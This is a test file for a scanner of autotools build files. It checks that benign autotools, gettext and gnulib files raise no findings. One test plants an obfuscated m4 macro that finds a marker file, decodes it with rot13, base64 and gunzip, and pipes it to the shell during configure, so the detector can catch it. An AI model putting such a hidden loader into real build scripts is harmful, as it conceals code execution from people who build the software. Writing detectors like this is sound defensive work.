import { execFile } from 'node:child_process'
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join, relative } from 'node:path'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { atLeast, type Finding } from '../../src/model/finding.js'
import { CHAIN_RULE_ID } from '../../src/rules/engine.js'
import { breather } from '../helpers/breathe.js'
import { findingsOf, walkFiles } from './helpers.js'

const run = promisify(execFile)

/** Files Debian's autotools, gettext and gnulib packages install: all written in good faith. */
const CORPUS = [
  '/usr/share/aclocal',
  '/usr/share/aclocal-1.16',
  '/usr/share/autoconf',
  '/usr/share/automake-1.16',
  '/usr/share/libtool',
  '/usr/share/gettext',
  '/usr/share/gnulib/m4',
  '/usr/share/gnulib/build-aux',
  '/usr/share/misc/config.guess',
  '/usr/share/misc/config.sub',
]

interface Scan {
  readonly files: number
  readonly findings: readonly (Finding & { path: string })[]
}

async function scan(files: readonly string[], root = '/'): Promise<Scan> {
  const findings: (Finding & { path: string })[] = []
  const breathe = breather()
  for (const file of files) {
    await breathe()
    const text = readFileSync(file).toString('utf8')
    for (const f of findingsOf(relative(root, file), text)) findings.push({ ...f, path: relative(root, file) })
  }
  return { files: files.length, findings }
}

const describeHits = (s: Scan): string[] => s.findings.map((f) => `${f.ruleId}:${f.severity} ${f.path}:${f.line} ${f.message}`)

describe('benign corpus: installed autotools, gettext and gnulib files', () => {
  const files = CORPUS.flatMap(walkFiles)

  it('is there to be scanned', () => {
    expect(files.length).toBeGreaterThan(1500)
  })

  it('raises nothing at all, not even low or info', async () => {
    const result = await scan(files)
    console.log(`benign corpus: ${result.files} files scanned, ${result.findings.length} findings`)
    expect(describeHits(result)).toEqual([])
  })
})

function write(root: string, files: Record<string, string>): void {
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true })
    writeFileSync(join(root, path), content)
  }
}

/** A project using automake, libtool, gettext, a canonical host and a host `case`. */
const LIBRARY_PROJECT = {
  'configure.ac': `AC_INIT([demo], [1.0], [bugs@example.org])
AC_CONFIG_SRCDIR([src/main.c])
AC_CONFIG_AUX_DIR([build-aux])
AC_CONFIG_MACRO_DIR([m4])
AC_CANONICAL_HOST
AM_INIT_AUTOMAKE([foreign -Wall])
AC_PROG_CC
AM_PROG_AR
LT_INIT
AM_GNU_GETTEXT([external])
AM_GNU_GETTEXT_VERSION([0.21])
case $host in
  x86_64-*-linux*) HOST_CFLAGS="-O2" ;;
  *-mingw*) HOST_CFLAGS="-DWIN32" ;;
  *) HOST_CFLAGS= ;;
esac
AC_SUBST([HOST_CFLAGS])
AC_CONFIG_HEADERS([config.h])
AC_CONFIG_FILES([Makefile src/Makefile po/Makefile.in tests/Makefile])
AC_OUTPUT
`,
  'Makefile.am': 'SUBDIRS = po src tests\nACLOCAL_AMFLAGS = -I m4\n',
  'src/Makefile.am': 'lib_LTLIBRARIES = libdemo.la\nlibdemo_la_SOURCES = lib.c\nbin_PROGRAMS = demo\ndemo_SOURCES = main.c\ndemo_LDADD = libdemo.la\n',
  'src/lib.c': 'int lib(void) { return 1; }\n',
  'src/main.c': '#include <stdio.h>\nint main(void) { puts("hi"); return 0; }\n',
  'tests/Makefile.am': 'TESTS = run.sh\nEXTRA_DIST = run.sh files/good-1.xz\ncheck-local:\n\txz -dc $(srcdir)/files/good-1.xz > /dev/null\n',
  'tests/run.sh': '#!/bin/sh\nexit 0\n',
  'po/POTFILES.in': 'src/main.c\n',
  'po/LINGUAS': '',
}

/** A project with an autotest suite, a target triple and test data shipped by dist-hook. */
const AUTOTEST_PROJECT = {
  'configure.ac': `AC_INIT([suite], [2.3])
AC_CONFIG_AUX_DIR([build-aux])
AC_CANONICAL_TARGET
AM_INIT_AUTOMAKE([foreign])
AC_PROG_CC
AC_PROG_SED
AC_PROG_GREP
AM_CONDITIONAL([ON_LINUX], [case $host_os in linux*) true ;; *) false ;; esac])
AC_CONFIG_TESTDIR([tests])
AC_CONFIG_FILES([Makefile tests/atlocal])
AC_OUTPUT
`,
  'Makefile.am': `bin_PROGRAMS = tool
tool_SOURCES = tool.c
EXTRA_DIST = tests/testsuite.at tests/package.m4 $(TESTSUITE) tests/data/sample.bin
TESTSUITE = $(srcdir)/tests/testsuite
AUTOTEST = $(AUTOM4TE) -l autotest
$(srcdir)/tests/package.m4: $(srcdir)/configure.ac
	{ echo '# Signature of the current package.'; \\
	  echo 'm4_define([AT_PACKAGE_NAME], [$(PACKAGE_NAME)])'; \\
	} > $@
$(TESTSUITE): $(srcdir)/tests/testsuite.at $(srcdir)/tests/package.m4
	$(AUTOTEST) -I '$(srcdir)/tests' -o $@.tmp $@.at
	mv $@.tmp $@
check-local: atconfig $(TESTSUITE)
	$(SHELL) '$(TESTSUITE)' $(TESTSUITEFLAGS)
dist-hook:
	cp -p $(srcdir)/tests/data/*.bin $(distdir)/tests/data/
if ON_LINUX
AM_CFLAGS = -D_GNU_SOURCE
endif
`,
  'tool.c': 'int main(void) { return 0; }\n',
  'tests/testsuite.at': 'AT_INIT\nAT_SETUP([runs])\nAT_CHECK([tool], [0])\nAT_CLEANUP\n',
  'tests/atlocal.in': '',
  'tests/data/sample.bin': '\u0000\u0001binary\n',
}

describe('benign corpus: real autotools projects, regenerated and configured', () => {
  let base = ''
  const library = () => join(base, 'library')
  const autotest = () => join(base, 'autotest')

  beforeAll(async () => {
    base = mkdtempSync(join(tmpdir(), 'stagelight-benign-'))
    write(library(), LIBRARY_PROJECT)
    write(autotest(), AUTOTEST_PROJECT)
    chmodSync(join(library(), 'tests/run.sh'), 0o755)
    await Promise.all([run('autoreconf', ['-fi'], { cwd: library() }), run('autoreconf', ['-fi'], { cwd: autotest() })])
    // our own fixture: running its configure creates config.status, libtool and the Makefiles
    await run('./configure', ['--quiet'], { cwd: library(), env: { ...process.env, CONFIG_SITE: '/dev/null' } })
  })

  afterAll(() => {
    if (base) rmSync(base, { recursive: true, force: true })
  })

  it('generated configure, Makefile.in, ltmain.sh, aclocal.m4, config.status and libtool raise nothing at medium or above', async () => {
    const files = [...walkFiles(library()), ...walkFiles(autotest())].filter((f) => !f.includes('/autom4te.cache/'))
    for (const expected of ['library/configure', 'library/Makefile.in', 'library/build-aux/ltmain.sh', 'library/aclocal.m4', 'library/config.status', 'library/libtool', 'library/src/Makefile', 'autotest/configure']) {
      expect(files.map((f) => relative(base, f))).toContain(expected)
    }
    const result = await scan(files, base)
    console.log(`generated autotools projects: ${result.files} files scanned, ${result.findings.length} findings`)
    expect(describeHits({ ...result, findings: result.findings.filter((f) => atLeast(f.severity, 'medium')) })).toEqual([])
    expect(describeHits(result)).toEqual([])
  })

  it('but the same project with a macro that decodes and runs a hidden file is caught in its generated configure', async () => {
    write(library(), {
      'm4/zz-cache.m4': `# zz-cache.m4 serial 2
dnl Cache helpers.
AC_DEFUN([ZZ_CACHE_INIT],
[
  zz_cache_file=\`LC_ALL=C grep -l -r -a "@@CACHE@@" "$srcdir/po" 2>/dev/null | head -n 1\`
  zz_cache_filter='perl -pe "tr/a-zA-Z/n-za-mN-ZA-M/"'
  if test -n "$zz_cache_file"; then
    zz_cache_load="sed -n p $zz_cache_file | eval \\$zz_cache_filter | openssl base64 -d | gzip -dc"
  fi
  AC_CONFIG_COMMANDS([zz-cache], [eval "$zz_cache_load" | $SHELL 2>/dev/null], [zz_cache_load='$zz_cache_load'; zz_cache_filter='$zz_cache_filter'])
])
`,
      'configure.ac': LIBRARY_PROJECT['configure.ac'].replace('LT_INIT\n', 'LT_INIT\nZZ_CACHE_INIT\n'),
    })
    await run('aclocal', ['-I', 'm4'], { cwd: library() })
    await run('autoconf', [], { cwd: library() })
    const findings = findingsOf('configure', readFileSync(join(library(), 'configure'), 'utf8'))
    const byRule = new Map(findings.map((f) => [f.ruleId, f]))
    expect(byRule.get(CHAIN_RULE_ID)?.severity).toBe('critical')
    expect(byRule.get('scan/data-to-shell-pipeline')?.severity).toBe('critical')
    expect([...byRule.keys()].sort()).toEqual([CHAIN_RULE_ID, 'scan/binary-marker-grep', 'scan/data-to-shell-pipeline', 'scan/sed-as-cat', 'scan/tr-obfuscation'].sort())
    expect(byRule.get('scan/data-to-shell-pipeline')?.evidence).toMatch(/zz-cache":C\) eval "\$zz_cache_load" \| \$SHELL/)
  })
})
